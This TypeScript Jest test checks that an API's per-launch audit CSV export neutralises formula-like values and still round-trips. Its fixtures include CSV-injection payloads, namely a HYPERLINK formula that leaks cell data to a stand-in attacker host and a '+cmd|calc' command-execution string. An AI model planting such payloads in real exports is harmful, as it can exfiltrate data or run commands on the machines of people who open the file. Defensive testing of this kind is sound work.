import { afterAll, beforeAll, describe, expect, it } from '@jest/globals';
import type { Response } from 'superagent';
import { csvObjects, historyEventFromCsv } from './support/audit-csv.js';
import { ADMIN_TOKEN, bearer, startTestApp, type TestApp } from './support/test-app.js';

const asText = (res: Response, done: (err: Error | null, body: string) => void) => {
  let body = '';
  res.setEncoding('utf8');
  res.on('data', (chunk: string) => (body += chunk));
  res.on('end', () => done(null, body));
};

describe('audit: CSV exports never hand a spreadsheet a live formula', () => {
  let t: TestApp;
  const FORMULA = '=HYPERLINK("https://evil.example/?d="&A1,"open")';

  beforeAll(async () => {
    t = await startTestApp();
  });
  afterAll(() => t.close());

  it('neutralises a principal named like a formula, and the export still round-trips', async () => {
    const created = await t.http.post('/v1/principals').set(bearer(ADMIN_TOKEN)).send({ name: FORMULA, role: 'launch-manager' }).expect(201);
    const manager = created.body.token as string;
    const launch = await t.http
      .post('/v1/launches')
      .set(bearer(manager))
      .send({ name: '+cmd|calc', product: '@SUM(1)', targetDate: '2030-06-01', tier: 3 })
      .expect(201);
    const launchId = launch.body.launchId as string;
    await t.http.get(`/v1/launches/${launchId}?minPosition=${launch.body.position}`).set(bearer(manager)).expect(200);

    const csv = await t.http.get(`/v1/launches/${launchId}/history?format=csv`).set(bearer(manager)).buffer(true).parse(asText).expect(200);
    const rows = csvObjects(csv.body as string);
    expect(rows[0]!.actorName).toBe(`'${FORMULA}`);
    for (const row of rows) for (const cell of Object.values(row)) expect(cell).not.toMatch(/^[=+\-@\t\r]/);

    const history = (await t.http.get(`/v1/launches/${launchId}/history`).set(bearer(manager)).expect(200)).body.events;
    // The per-launch exports carry no leafIndex (GET /v1/ledger/export does): compared without it.
    expect(rows.map(historyEventFromCsv)).toEqual(history.map(({ leafIndex: _leafIndex, ...event }: Record<string, unknown>) => event));
    expect(history[0].metadata.actor.name).toBe(FORMULA);
    expect(history[0].data).toMatchObject({ name: '+cmd|calc', product: '@SUM(1)' });
  });
});
